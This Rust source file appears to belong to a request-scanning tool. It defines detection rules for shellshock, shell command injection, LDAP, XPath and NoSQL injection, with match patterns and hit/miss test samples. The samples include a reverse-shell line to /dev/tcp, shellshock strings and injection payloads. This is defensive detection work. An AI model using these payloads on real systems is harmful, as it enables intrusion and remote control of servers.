//! What servers, shells, directories and response headers would take as theirs.

use super::{Carriers, Category, Rule, Severity};
use crate::payload::field::Carrier;

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "shellshock",
        category: Category::Shellshock,
        severity: Severity::Critical,
        carriers: Carriers::ALL,
        any: &["^() {", "^(){", "^() { ", "^( ) {", "~() { :", "~() {:", "~(){:", "~() { _;"],
        with: &[],
        hits: &["() { :;}; /bin/bash -c id", "() { _; } >_[$($())] { id; }", "(){:;};id"],
        misses: &["function() { return 1; }", "f () { x }", "() => { x }"],
    },
    Rule {
        id: "rce-shell-syntax",
        category: Category::Rce,
        severity: Severity::Critical,
        carriers: Carriers::ALL,
        any: &["${ifs}", "$ifs", "/dev/tcp/", "/dev/udp/", "/bin/sh~", "/bin/bash~", "/bin/zsh~", "/bin/dash~", "/bin/ksh~", "bash -i", "sh -i", "cmd.exe", "cmd /c", "cmd.exe /c", "powershell -", "powershell.exe", "/bin/cat~", "/bin/ls~", "/usr/bin/id~", "/usr/bin/perl~", "/usr/bin/python", "/usr/bin/wget", "/usr/bin/curl", "/usr/bin/nc~", "/bin/nc~", "/bin/id~", "/bin/uname", "/bin/echo~", "/bin/ping", "/bin/sleep", "/sbin/ifconfig", "|base64 -d", "| base64 -d", "base64 --decode", "nc -e ", "nc -l", "mkfifo /tmp", "%systemroot%", "%comspec%", "/???/", "2>&1", ">/dev/null", "> /dev/null", "| nc ", "|nc ", "ld_preload=", "$(cat ", "$(<", "`cat ", "oproxycommand", "cmd=$", "net user ", "net localgroup", "rm -rf ", "curl -o", "wget -o", "/etc/init.d/", "win32_process", "iex(", "invoke-expression", "downloadstring("],
        with: &[],
        hits: &["cat${IFS}/x", "bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "cmd.exe /c dir", "; /bin/sh", "x|base64 -d|sh", "/???/??t"],
        misses: &["/bin/shop", "powershell is nice", "a bash script", "/developer/tcp"],
    },
    Rule {
        id: "ldap-filter",
        category: Category::Ldap,
        severity: Severity::Critical,
        carriers: Carriers::NO_HEADERS,
        any: &["*)(", ")(|(", ")(&(", "*))(", "(|(objectclass", "(&(objectclass", "*(|(", "*()|", "*))\0", "^(*)*)", "^*))", ")(cn=", ")(uid=", ")(mail=", ")(sn=", ")(objectclass=", "(objectclass=*)", "^*)(", "*)((|", "^)(cn=", "(|(uid=", "(|(cn=", "(&(uid=", "(&(cn=", "(&(samaccountname", "(|(mail=", "(!(objectclass"],
        with: &[],
        hits: &["*)(uid=*))(|(uid=*", "admin)(&)(cn=x", "*(|(objectclass=*))", "(&(uid=x)(cn=y))"],
        misses: &["(a)(b)", "f(x)(y)", "a*(b+c)", "(*)"],
    },
    Rule {
        id: "xpath-expression",
        category: Category::Xpath,
        severity: Severity::Critical,
        carriers: Carriers::NO_HEADERS.without(Carrier::Text),
        any: &["count(/*)", "count(/child", "/child::", "::node()", "name()='", "name(/*", "name(//", "name(parent", "string-length(name", "parent::*", "following-sibling::", "ancestor::", "descendant::", "[position()=", "string-length(//", "substring(//", "substring(name(", "//user[", "/text()", "doc('http", "doc(\"http", "//*|", "]|//", "or '1'='1' or", "count(//", "unparsed-text(", "document('http", "[contains(name"],
        with: &[],
        hits: &["' and count(/*)=1 and '1'='1", "x' or name()='username' or 'x'='y", "count(/child::node())", "substring(//user[1]/x,1,1)"],
        misses: &["count (x)", "name() is a function", "the parent: child"],
    },
    Rule {
        id: "nosqli-javascript",
        category: Category::Nosqli,
        severity: Severity::Critical,
        carriers: Carriers::NO_HEADERS,
        any: &["this.password", "this.username", "this.passwd", "db.injection", "&& this.", "|| this.", "&&this.", "||this.", ";return true", ";return(true", "; return true", ";return 1", "' && '1'=='1", "'||'1'=='1", "\"||\"1\"==\"1", "'||1==1", "'|| 1==1", "new date();while", "new date(); while", "new date();do{", "=new date()", "db.getcollection", "db.getcollectionnames", "tojson(", ".insert({", "mapreduce", "{ \"$", "$where:", "\"&exists", "sleep(5000)", "' || 'a'=='a"],
        with: &["'", "\"", "(", ";", "="],
        hits: &["' && this.password.match(/.*/)//", "';return true;var a='", "db.injection.insert({success:1});", "'; sleep(5000); '"],
        misses: &["return true", "this.name", "while"],
    },
];
